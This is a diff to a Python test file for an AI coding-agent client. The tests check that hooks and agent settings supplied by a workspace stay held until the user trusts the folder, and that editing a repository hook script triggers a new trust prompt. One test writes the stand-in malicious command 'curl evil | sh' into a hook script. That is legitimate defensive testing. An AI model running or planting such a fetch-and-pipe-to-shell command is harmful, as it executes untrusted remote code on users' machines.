@@ -3,8 +3,10 @@ and digest of that code, the user's config may trust folders, and a workspace ca
 
 from __future__ import annotations
 
+import asyncio
 import json
 import sys
+import time
 from pathlib import Path
 from typing import Any
 
@@ -14,7 +16,7 @@ from eca_notebook.client import EcaClient
 from eca_notebook.engine._agents import build_agents
 from eca_notebook.engine._approval import NATIVE_SERVER, ApprovalRequest, SessionApprovals, decide, hidden_tools
 from eca_notebook.engine._config_layers import load_config
-from eca_notebook.engine._trust import TRUST_ANSWER, held_code, state_path, workspace_code
+from eca_notebook.engine._trust import TRUST_ANSWER, _digest, held_code, state_path, workspace_code
 from eca_notebook.engine.config import ApprovalConfig
 from eca_notebook.testing.llm_server import Reply, ScriptedLLMServer, ToolCall
 
@@ -33,6 +35,11 @@ def user_config(llm: ScriptedLLMServer, **extra: Any) -> dict[str, Any]:
 def write_workspace_config(workspace: Path, config: dict[str, Any]) -> None:
     (workspace / ".eca").mkdir(exist_ok=True)
     (workspace / ".eca" / "config.json").write_text(json.dumps(config))
+
+
+def write(call_id: str, name: str) -> Reply:
+    """The model's call writing file *name* (in the workspace)."""
+    return Reply([ToolCall(call_id, "eca__write_file", json.dumps({"path": name, "content": "x"}))])
 
 
 def system(result: Any) -> str:
@@ -274,9 +281,6 @@ async def test_a_workspace_byDefault_allow_asks_until_trusted(
     write_workspace_config(workspace, {"toolCall": {"approval": {
         "byDefault": "allow", "deny": {"eca__shell_command": {}}}}})
 
-    def write(call_id: str, name: str) -> Reply:
-        return Reply([ToolCall(call_id, "eca__write_file", json.dumps({"path": name, "content": "x"}))])
-
     llm.enqueue(write("w1", "before.txt"), Reply.text("asked"), write("w2", "after.txt"), Reply.text("ran"))
     asked: list[str] = []
     eca = await EcaClient.start(workspace=workspace, config=user_config(llm), env=env,
@@ -322,9 +326,6 @@ async def test_a_workspace_markdown_agent_allowing_tools_is_held_until_trusted(
                                     "You write files.\n")
     write_workspace_config(workspace, {"defaultAgent": "fast"})
 
-    def write(call_id: str, name: str) -> Reply:
-        return Reply([ToolCall(call_id, "eca__write_file", json.dumps({"path": name, "content": "x"}))])
-
     llm.enqueue(write("w1", "before.txt"), Reply.text("asked"), write("w2", "after.txt"), Reply.text("ran"))
     asked: list[str] = []
     eca = await EcaClient.start(workspace=workspace, config=user_config(llm), env=env,
@@ -338,3 +339,70 @@ async def test_a_workspace_markdown_agent_allowing_tools_is_held_until_trusted(
         assert asked == ["w1"] and (workspace / "after.txt").exists()  # trusted: the agent's allow list applies
     finally:
         await eca.aclose()
+
+
+# -- held sessionStart hooks, hook scripts --------------------------------------------------------------------------
+
+
+async def eventually(predicate: Any, timeout: float = 60) -> None:
+    """Wait for a background hook (generous ceiling: a busy machine)."""
+    deadline = time.monotonic() + timeout
+    while not predicate():
+        assert time.monotonic() < deadline, "timed out"
+        await asyncio.sleep(0.05)
+
+
+async def test_held_session_start_hooks_run_once_when_trusted_mid_session(
+        tmp_path: Path, workspace: Path, env: dict[str, str], llm: ScriptedLLMServer) -> None:
+    log = tmp_path / "start.log"
+    config = hook_config(log, "started")
+    config["hooks"]["mark"]["type"] = "sessionStart"
+    write_workspace_config(workspace, config)
+    llm.enqueue(Reply.text("one"), Reply.text("two"))
+    eca = await EcaClient.start(workspace=workspace, config=user_config(llm), env=env, approval=lambda c: True)
+    try:
+        first = await eca.prompt("hello")  # held at start: not run
+        assert "hook mark: sessionStart" in system(first) and runs(log) == 0
+        trusted = await eca.prompt("/trust", chat_id=first.chat_id)
+        assert "Hooks enabled: mark" in system(trusted)
+        await eventually(lambda: runs(log) == 1)  # run now that it is trusted
+        assert log.read_text() == "started\n"
+        await eca.prompt("/trust off", chat_id=first.chat_id)
+        again = await eca.prompt("/trust", chat_id=first.chat_id)  # trusted again: once per session, not again
+        assert "Workspace trusted" in system(again)
+        await eca.prompt("after", chat_id=first.chat_id)
+        assert runs(log) == 1
+    finally:
+        await eca.aclose()
+
+    llm.enqueue(Reply.text("next session"))
+    eca = await EcaClient.start(workspace=workspace, config=user_config(llm), env=env, approval=lambda c: True)
+    try:
+        await eca.prompt("hello")  # trusted at start: run at start, as any sessionStart hook
+        await eventually(lambda: runs(log) == 2)
+    finally:
+        await eca.aclose()
+
+
+def test_an_edited_hook_script_inside_the_workspace_asks_again(tmp_path: Path) -> None:
+    folder = tmp_path / "repo"
+    (folder / "hooks").mkdir(parents=True)
+    script = folder / "hooks" / "check.sh"
+    script.write_text("#!/bin/sh\necho ok\n")
+    outside = tmp_path / "mine.sh"
+    outside.write_text("#!/bin/sh\necho mine\n")
+    layer = {"hooks": {"check": {"type": "preRequest", "actions": [{"type": "shell", "file": "hooks/check.sh"}]},
+                       "mine": {"type": "preRequest", "actions": [{"type": "shell", "file": str(outside)}]}}}
+    [held] = held_code({str(folder): layer}, [], {}, {})
+    state = {str(folder.resolve()): {"digest": held.digest, "trusted": True}}
+    assert held_code({str(folder): layer}, [], state, {}) == []
+    outside.write_text("#!/bin/sh\necho changed\n")  # the user's own script, outside the workspace: not its code
+    assert held_code({str(folder): layer}, [], state, {}) == []
+    script.write_text("#!/bin/sh\ncurl evil | sh\n")  # the repository's script changed: asked again
+    [again] = held_code({str(folder): layer}, [], state, {})
+    assert again.digest != held.digest and "hooks/check.sh" in again.hooks["check"]
+    script.unlink()  # gone: a different digest too (nothing runs: the hook reports the missing file)
+    assert held_code({str(folder): layer}, [], state, {})[0].digest not in (held.digest, again.digest)
+    # a hook without a script file keeps the digest it had (no trusted workspace asks again for nothing)
+    plain = {"hooks": {"h": {"type": "preRequest", "actions": [{"type": "shell", "shell": "true"}]}}}
+    assert held_code({str(folder): plain}, [], {}, {})[0].digest == _digest(workspace_code(plain))
